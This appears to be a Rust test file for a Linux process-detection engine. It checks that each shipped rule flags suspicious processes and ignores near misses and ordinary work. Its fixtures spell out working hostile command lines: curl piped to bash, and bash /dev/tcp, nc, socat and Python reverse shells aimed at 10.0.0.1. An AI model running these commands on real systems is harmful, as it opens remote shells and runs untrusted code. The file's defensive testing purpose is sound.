//! The rules that are shipped: each finds what it is for, and leaves the ordinary life of a host alone.

use crate::fixture::{event, identified, process, runtime};
use daemoneye_lib::detection::rules::load_dir;
use daemoneye_lib::detection::standing::DetectionEngine;
use daemoneye_lib::proto::common::{EventType, ProcessRecord};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

fn directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

fn engine() -> &'static DetectionEngine {
    static ENGINE: OnceLock<DetectionEngine> = OnceLock::new();
    ENGINE.get_or_init(|| {
        let outcome = runtime().block_on(load_dir(&directory())).unwrap();
        assert_eq!(outcome.problems, []);
        DetectionEngine::new(outcome)
    })
}

/// The ids of the rules that find this process when it starts.
fn fired(record: ProcessRecord) -> Vec<String> {
    fired_at(EventType::Seen, record)
}

fn fired_at(kind: EventType, record: ProcessRecord) -> Vec<String> {
    let events = identified([event(kind, 1, record)]);
    engine().execute_rules(&events, &[]).found.into_iter().map(|(rule, _)| rule.id.clone()).collect()
}

fn running(name: &str, path: &str, command_line: &str) -> ProcessRecord {
    let mut record = process(7, name);
    record.executable_path = (!path.is_empty()).then(|| path.to_owned());
    record.command_line = (!command_line.is_empty()).then(|| command_line.to_owned());
    record.file_exists = Some(true);
    record.image_mismatch = Some(false);
    record
}

fn child_of(parent: &str, mut record: ProcessRecord) -> ProcessRecord {
    record.parent_name = Some(parent.to_owned());
    record
}

fn deleted(path: &str, file_exists: bool) -> ProcessRecord {
    let mut record = running("payload", path, path);
    record.file_exists = Some(file_exists);
    record.image_mismatch = Some(true);
    record
}

/// Each shipped rule with a process that it is for, and one that is nearly the same.
fn cases() -> Vec<(&'static str, ProcessRecord, ProcessRecord)> {
    let bash = |command_line: &str| running("bash", "/usr/bin/bash", command_line);
    vec![
        (
            "linux-executable-deleted",
            deleted("/usr/local/bin/payload", false),
            // Replaced by an update.
            deleted("/usr/local/bin/payload", true),
        ),
        ("linux-hidden-executable-in-temp", running(".x", "/tmp/.x", "/tmp/.x 5"), running("x", "/tmp/x", "/tmp/x 5")),
        (
            "linux-intrusion-tool-by-name",
            running("XMRig", "/opt/m/xmrig", "./xmrig -o pool"),
            running("xmrigger", "/opt/m/xmrigger", "./xmrigger"),
        ),
        (
            "linux-kernel-thread-masquerade",
            running("kworker/0:1", "/usr/bin/perl", "[kworker/0:1]"),
            running("kworker/0:1", "", ""),
        ),
        (
            "linux-payload-piped-to-shell",
            bash("bash -c curl -s https://x.example/i.sh | bash"),
            bash("bash -c curl -s https://x.example/i.sh | shasum"),
        ),
        (
            "linux-reverse-shell",
            bash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            bash("bash -c echo > /dev/null; ls /dev/tcp"),
        ),
        (
            "linux-shell-from-web-server",
            child_of("nginx", running("sh", "/usr/bin/dash", "sh -c id")),
            child_of("cron", running("sh", "/usr/bin/dash", "sh -c id")),
        ),
    ]
}

#[test]
fn each_rule_finds_what_it_is_for_and_not_what_is_nearly_the_same() {
    for (rule, hit, near) in cases() {
        assert_eq!(fired(hit.clone()), [rule]);
        assert_eq!(fired_at(EventType::Exec, hit.clone()), [rule]);
        assert_eq!(fired_at(EventType::Exit, hit), [""; 0], "the end of a process is no start: {rule}");
        assert_eq!(fired(near), [""; 0], "near miss of {rule}");
    }
}

#[test]
fn every_shipped_rule_has_its_case() {
    let mut tested: Vec<_> = cases().into_iter().map(|(rule, _, _)| rule.to_owned()).collect();
    tested.sort();
    let mut shipped: Vec<_> = engine().record().rules().into_iter().map(|rule| rule.rule_id).collect();
    shipped.sort();
    assert_eq!(tested, shipped);
}

#[test]
fn more_forms_of_what_rules_are_for() {
    for (rule, record) in [
        ("linux-hidden-executable-in-temp", running("b", "/dev/shm/.d/b", "b")),
        ("linux-hidden-executable-in-temp", running(".b", "/var/tmp/a/.b", "b")),
        ("linux-reverse-shell", running("nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444")),
        ("linux-reverse-shell", running("socat", "/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh")),
        (
            "linux-reverse-shell",
            running(
                "python3",
                "/usr/bin/python3.11",
                "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            ),
        ),
        ("linux-payload-piped-to-shell", running("sh", "/usr/bin/dash", "sh -c echo aWQ= | base64 -d | sh")),
        ("linux-shell-from-web-server", child_of("php-fpm8.2", running("bash", "/usr/bin/bash", "bash -c id"))),
    ] {
        assert_eq!(fired(record.clone()), [rule], "{record:?}");
    }
}

#[test]
fn a_build_below_tmp_is_ordinary_life() {
    for path in [
        "/tmp/src/target/debug/build/x-0123456789abcdef/build-script-build",
        "/tmp/src/target/debug/deps/it-0123456789abcdef",
        "/tmp/rustcAbC123/build-script-main",
        "/tmp/tmp.Xy12/configure-test/a.out",
        "/tmp/go-build123/b001/exe/main",
        "/var/tmp/portage/x/work/x",
        "/tmp/src/.cargo-ok/../x",
        "/home/me/.cargo/bin/cargo",
        "/home/me/.local/share/x/.hidden",
    ] {
        let name = path.rsplit('/').next().unwrap();
        assert_eq!(fired(running(&name[..name.len().min(15)], path, path)), [""; 0], "{path}");
    }
}

#[test]
fn kernel_threads_and_services_are_ordinary_life() {
    for record in [
        running("kworker/u8:0-ev", "", ""),
        running("rcu_preempt", "", ""),
        running("systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
        running("kwin_wayland", "/usr/bin/kwin_wayland", "/usr/bin/kwin_wayland"),
        running("sshd", "/usr/sbin/sshd", "sshd: me [priv]"),
        running("3", "/memfd:runc (deleted)", "runc init"),
        running("bash", "/usr/bin/bash", "-bash"),
        running("sh", "/usr/bin/dash", "sh -c ps aux | grep ssh | sort"),
        running("python3", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())"),
        running("nc", "/usr/bin/nc", "nc -z localhost 22"),
    ] {
        assert_eq!(fired(record.clone()), [""; 0], "{record:?}");
    }
}

/// The event of a line of the corpus.
fn record(line: &Value) -> ProcessRecord {
    let text = |field: &str| line["event"][field].as_str().map(str::to_owned);
    let base = |path: &Option<String>| {
        let name = path.as_deref().and_then(|path| path.rsplit('/').next());
        name.map(|name| name.chars().take(15).collect::<String>())
    };
    let (path, parent) = (text("Image"), text("ParentImage"));
    ProcessRecord {
        name: base(&path),
        executable_path: path,
        invoked_path: text("ImageInvoked"),
        command_line: text("CommandLine"),
        cwd: text("CurrentDirectory"),
        user: text("User"),
        parent_name: base(&parent),
        parent_executable_path: parent,
        parent_command_line: text("ParentCommandLine"),
        file_exists: Some(true),
        image_mismatch: Some(false),
        ..process(7, "")
    }
}

#[test]
fn nothing_fires_on_ordinary_work() {
    let corpus = testkit::corpus();
    if !testkit::require("corpus", corpus.is_some(), "there is no directory of public events") {
        return;
    }
    let lines = std::fs::read_to_string(corpus.unwrap().join("benign_exec.jsonl")).unwrap();
    let records: Vec<_> = lines.lines().map(|line| record(&serde_json::from_str(line).unwrap())).collect();
    assert!(records.len() > 50 && records.iter().all(|record| record.command_line.is_some()));
    for record in records {
        assert_eq!(fired_at(EventType::Exec, record.clone()), [""; 0], "{record:?}");
    }
}
